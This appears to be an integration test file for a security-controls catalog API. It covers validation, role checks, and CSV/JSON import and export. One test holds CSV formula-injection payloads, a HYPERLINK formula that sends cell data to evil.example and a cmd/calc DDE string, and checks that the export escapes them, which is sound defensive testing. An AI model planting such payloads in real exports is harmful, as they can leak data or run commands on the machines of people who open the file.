import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json } from '../../db/create-db';
import { defaultSla } from '../../domain/sla';
import { startStack, type Stack } from '../setup/stack';
import { linkPendingAudit } from '../../db/audit-linker';

let stack: Stack;
let manager: string;
let auditor: string;
let ciId: string;
let serviceId: string;

const headersControl = (name: string, extra: Record<string, unknown> = {}) => ({
  name,
  owner: 'web-team',
  kind: 'technical',
  process: 'security',
  procedure: { type: 'automated', check: 'http_security_headers', params: { url: 'https://portal.example/' } },
  ...extra,
});

beforeAll(async () => {
  // The catalog's example controls aim at portal.example and 10.0.0.5, which no CI here records.
  stack = await startStack({ worker: false, env: { WARDEN_OUTBOUND_ALLOW: '127.0.0.0/8,::1,10.0.0.0/8,portal.example' } });
  manager = await stack.token(['security_manager'], 'sally-manager');
  auditor = await stack.token(['auditor']);
  const service = await stack.db
    .insertInto('services')
    .values({
      name: 'Customer portal',
      owner: 'web-team',
      sla: json({ ...defaultSla, additionalRequirements: [{ id: 'REQ-TLS', title: 'TLS everywhere' }] }),
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  serviceId = service.id;
  const ci = await stack.db
    .insertInto('configuration_items')
    .values({
      name: 'portal-web-01',
      type: 'server',
      service_id: serviceId,
      owner: 'web-team',
      confidentiality: 'high',
      integrity: 'medium',
      availability: 'medium',
      attributes: json({}),
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  ciId = ci.id;
});
afterAll(() => stack?.close());

describe('the controls catalog', () => {
  it('creates a control with its links and defaults, audited', async () => {
    const created = await stack.request('POST', '/controls', {
      token: manager,
      body: headersControl('Portal security headers', {
        ciIds: [ciId],
        references: { iso27001: ['A.8.9', 'A.8.26'], mitreAttack: ['T1189'] },
        baselineMeasures: ['BL-C3'],
        slaRequirements: [{ serviceId, requirementId: 'REQ-TLS' }],
      }),
    });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      name: 'Portal security headers',
      incidentCategory: 'vulnerability_exploitation',
      ciIds: [ciId],
      references: { iso27001: ['A.8.9', 'A.8.26'], mitreAttack: ['T1189'] },
      schedule: null,
      status: 'active',
    });
    // The check's defaults are stored, so the report shows what was actually required.
    expect(created.body.procedure.params.required).toContain('strict-transport-security');
    const audit = await stack.request('GET', `/audit?subjectType=control&subjectId=${created.body.id}`, { token: auditor });
    expect(audit.body.items.map((e: { action: string }) => e.action)).toEqual(['control.created']);
    expect(audit.body.items[0].actor).toBe('sally-manager');
  });

  it('refuses unknown references and bad check parameters, naming each', async () => {
    const missingCi = '00000000-0000-4000-8000-000000000000';
    const bad = await stack.request('POST', '/controls', {
      token: manager,
      body: headersControl('Bad links', { ciIds: [missingCi], slaRequirements: [{ serviceId, requirementId: 'REQ-NOPE' }] }),
    });
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([
      { path: 'body.ciIds.0', message: `no configuration item ${missingCi}` },
      { path: 'body.slaRequirements.0.requirementId', message: `service ${serviceId} has no SLA requirement REQ-NOPE` },
    ]);
    const params = await stack.request('POST', '/controls', {
      token: manager,
      body: {
        ...headersControl('Bad port'),
        references: { iso27001: ['A.8.99'], mitreAttack: [] },
        procedure: { type: 'automated', check: 'tcp_port', params: { host: 'db', port: 0 } },
      },
    });
    expect(params.status).toBe(400);
    expect(params.body.detail).toContain('A.5.1 to A.8.34');
    expect(params.body.detail).toMatch(/procedure\.params\.port/);
    expect(params.body.detail).toMatch(/procedure\.params\.expect/);
  });

  it('refuses a second active control with the same name', async () => {
    await stack.request('POST', '/controls', { token: manager, body: headersControl('Unique name') });
    const again = await stack.request('POST', '/controls', { token: manager, body: headersControl('unique NAME') });
    expect(again.status).toBe(409);
  });

  it('changes and retires a control', async () => {
    const created = await stack.request('POST', '/controls', { token: manager, body: headersControl('Short-lived control') });
    const patched = await stack.request('PATCH', `/controls/${created.body.id}`, {
      token: manager,
      body: { incidentCategory: 'data_leak', description: 'now with a description' },
    });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({
      incidentCategory: 'data_leak',
      description: 'now with a description',
      name: 'Short-lived control',
    });
    expect((await stack.request('DELETE', `/controls/${created.body.id}`, { token: manager })).status).toBe(204);
    const read = await stack.request('GET', `/controls/${created.body.id}`, { token: auditor });
    expect(read.body.status).toBe('retired');
    const listed = await stack.request('GET', '/controls?limit=500', { token: auditor });
    expect(listed.body.items.map((c: { id: string }) => c.id)).not.toContain(created.body.id);
  });

  it('lets every role read, only management write, and a service owner only their own controls', async () => {
    expect((await stack.request('GET', '/controls', { token: auditor })).status).toBe(200);
    expect((await stack.request('POST', '/controls', { token: auditor, body: headersControl('Auditor attempt') })).status).toBe(403);
    const owner = await stack.token(['service_owner'], 'web-team');
    const stranger = await stack.token(['service_owner'], 'mail-team');
    const own = await stack.request('POST', '/controls', { token: owner, body: headersControl('Owned by the web team') });
    expect(own.status).toBe(201);
    expect((await stack.request('POST', '/controls', { token: stranger, body: headersControl('Not mine') })).status).toBe(403);
    expect((await stack.request('PATCH', `/controls/${own.body.id}`, { token: stranger, body: { description: 'hijack' } })).status).toBe(
      403,
    );
    expect((await stack.request('PATCH', `/controls/${own.body.id}`, { token: owner, body: { owner: 'mail-team' } })).status).toBe(403);
    expect((await stack.request('PATCH', `/controls/${own.body.id}`, { token: owner, body: { description: 'ours' } })).status).toBe(200);
  });

  it("lets a service owner link only their own CIs, so no check aims at another owner's hosts", async () => {
    const mailTeam = await stack.token(['service_owner'], 'mail-team');
    const linked = await stack.request('POST', '/controls', {
      token: mailTeam,
      body: headersControl('Aimed at the web team', { owner: 'mail-team', ciIds: [ciId] }),
    });
    expect(linked.status).toBe(400);
    expect(linked.body.errors).toEqual([
      { path: 'body.ciIds.0', message: 'a service owner may link only configuration items of their own' },
    ]);
    const webTeam = await stack.token(['service_owner'], 'web-team');
    const own = await stack.request('POST', '/controls', { token: webTeam, body: headersControl('Our own CI', { ciIds: [ciId] }) });
    expect(own.status).toBe(201);
    const mine = await stack.request('POST', '/controls', { token: mailTeam, body: headersControl('Mail relay', { owner: 'mail-team' }) });
    expect(mine.status).toBe(201);
    const relinked = await stack.request('PATCH', `/controls/${mine.body.id}`, { token: mailTeam, body: { ciIds: [ciId] } });
    expect(relinked.status).toBe(400);
    expect(relinked.body.errors[0].path).toBe('body.ciIds.0');
    // Security management links any CI.
    expect((await stack.request('PATCH', `/controls/${mine.body.id}`, { token: manager, body: { ciIds: [ciId] } })).status).toBe(200);
  });
});

describe('import and export', () => {
  const csvHeader = 'name,owner,kind,process,procedure,check,params,instructions,deadline,iso27001,ciIds';

  it('imports a CSV file with quoted fields, then exports it back in both formats', async () => {
    const csv = [
      csvHeader,
      `Backup restore drill,ops-team,organisational,continuity,manual,,,"Restore last night's backup of ""billing"", then compare row counts.\nRecord the times.",3d,A.8.13,${ciId}`,
      `Admin port closed,ops-team,technical,availability,automated,tcp_port,"{""host"":""10.0.0.5"",""port"":22,""expect"":""closed""}",,,A.8.20;A.8.22,`,
    ].join('\r\n');
    const imported = await stack.request('POST', '/controls/import', {
      token: manager,
      rawBody: csv,
      headers: { 'content-type': 'text/csv' },
    });
    expect(imported.status).toBe(200);
    expect(imported.body).toMatchObject({ created: 2, updated: 0 });

    const exported = await stack.request('GET', '/controls/export?format=json', { token: auditor });
    const drill = exported.body.find((c: { name: string }) => c.name === 'Backup restore drill');
    expect(drill.procedure).toEqual({
      type: 'manual',
      instructions: `Restore last night's backup of "billing", then compare row counts.\nRecord the times.`,
      deadline: '3d',
    });
    expect(drill.ciIds).toEqual([ciId]);

    const csvOut = await stack.request('GET', '/controls/export?format=csv', { token: auditor });
    expect(csvOut.headers.get('content-type')).toContain('text/csv');
    expect(csvOut.body).toContain('"Restore last night\'s backup of ""billing"", then compare row counts.\nRecord the times."');
    // Re-importing the export changes nothing but counts every control as updated.
    const again = await stack.request('POST', '/controls/import', {
      token: manager,
      rawBody: csvOut.body,
      headers: { 'content-type': 'text/csv' },
    });
    expect(again.status).toBe(200);
    expect(again.body.created).toBe(0);
    expect(again.body.updated).toBe(exported.body.length);
    const reexported = await stack.request('GET', '/controls/export?format=json', { token: auditor });
    expect(reexported.body).toEqual(exported.body);
  });

  it('escapes formula-injection payloads in the CSV export and imports the export back unchanged', async () => {
    const payload = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    const created = await stack.request('POST', '/controls', {
      token: manager,
      body: {
        name: "+cmd|' /C calc'!A0",
        owner: 'ops-team',
        kind: 'organisational',
        process: 'security',
        procedure: { type: 'manual', instructions: payload },
      },
    });
    expect(created.status).toBe(201);
    const csvOut = await stack.request('GET', '/controls/export?format=csv', { token: auditor });
    expect(csvOut.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    expect(csvOut.body).toMatch(/^'\+cmd\|' \/C calc'!A0,/m);
    const before = await stack.request('GET', '/controls/export?format=json', { token: auditor });
    const again = await stack.request('POST', '/controls/import', {
      token: manager,
      rawBody: csvOut.body,
      headers: { 'content-type': 'text/csv' },
    });
    expect(again.status).toBe(200);
    expect((await stack.request('GET', '/controls/export?format=json', { token: auditor })).body).toEqual(before.body);
  });

  it('rejects a file with bad rows whole, naming every bad row, writing nothing', async () => {
    const before = await stack.db
      .selectFrom('controls')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    await linkPendingAudit(stack.db);
    const auditBefore = await stack.db
      .selectFrom('audit_events')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    const rows = [
      headersControl('Import good 1'),
      { ...headersControl('Import bad kind'), kind: 'magical' },
      headersControl('Import good 2'),
      { ...headersControl('Import bad check'), procedure: { type: 'automated', check: 'tcp_port', params: { host: 'x', port: 22 } } },
      headersControl('import good 1'),
      headersControl('Import bad CI', { ciIds: ['00000000-0000-4000-8000-000000000001'] }),
    ];
    const rejected = await stack.request('POST', '/controls/import', { token: manager, body: rows });
    expect(rejected.status).toBe(400);
    const badRows = [...new Set(rejected.body.errors.map((e: { path: string }) => e.path.split('.').slice(0, 2).join('.')))];
    expect(badRows).toEqual(['rows.2', 'rows.4', 'rows.5']);
    expect(rejected.body.errors).toContainEqual({ path: 'rows.5.name', message: 'repeats the name of row 1' });
    expect(rejected.body.errors).toContainEqual(expect.objectContaining({ path: 'rows.4.procedure.params.expect' }));

    // The CI row is only caught once every row is well-formed: still nothing written.
    const referencesOnly = await stack.request('POST', '/controls/import', {
      token: manager,
      body: [headersControl('Import good 3'), rows[5]],
    });
    expect(referencesOnly.status).toBe(400);
    expect(referencesOnly.body.errors).toEqual([
      { path: 'rows.2.ciIds.0', message: 'no configuration item 00000000-0000-4000-8000-000000000001' },
    ]);

    const csvBad = await stack.request('POST', '/controls/import', {
      token: manager,
      rawBody: `${csvHeader}\r\nA,ops,technical,security,manual,,,"unclosed\r\n`,
      headers: { 'content-type': 'text/csv' },
    });
    expect(csvBad.status).toBe(400);
    expect(csvBad.body.errors).toEqual([{ path: 'file', message: 'line 3: a quoted field is never closed (the file ends inside it)' }]);

    const after = await stack.db
      .selectFrom('controls')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    await linkPendingAudit(stack.db);
    const auditAfter = await stack.db
      .selectFrom('audit_events')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n));
    expect(Number(auditAfter.n)).toBe(Number(auditBefore.n));
  });

  it('is for security management only', async () => {
    const owner = await stack.token(['service_owner']);
    expect((await stack.request('POST', '/controls/import', { token: owner, body: [headersControl('Sneaky')] })).status).toBe(403);
  });
});

describe('the OpenAPI document', () => {
  it('describes every endpoint of the testing schedule', async () => {
    const document = await stack.request('GET', '/docs/json');
    expect(document.status).toBe(200);
    for (const path of [
      '/controls',
      '/controls/import',
      '/controls/export',
      '/controls/{id}',
      '/controls/{id}/schedule',
      '/controls/{id}/schedule/pause',
      '/controls/{id}/runs',
      '/testing-schedule',
      '/test-runs',
      '/test-runs/{id}',
    ]) {
      expect(Object.keys(document.body.paths)).toContain(path);
    }
    expect(document.body.paths['/controls'].post.requestBody.content['application/json'].schema).toBeDefined();
  });
});
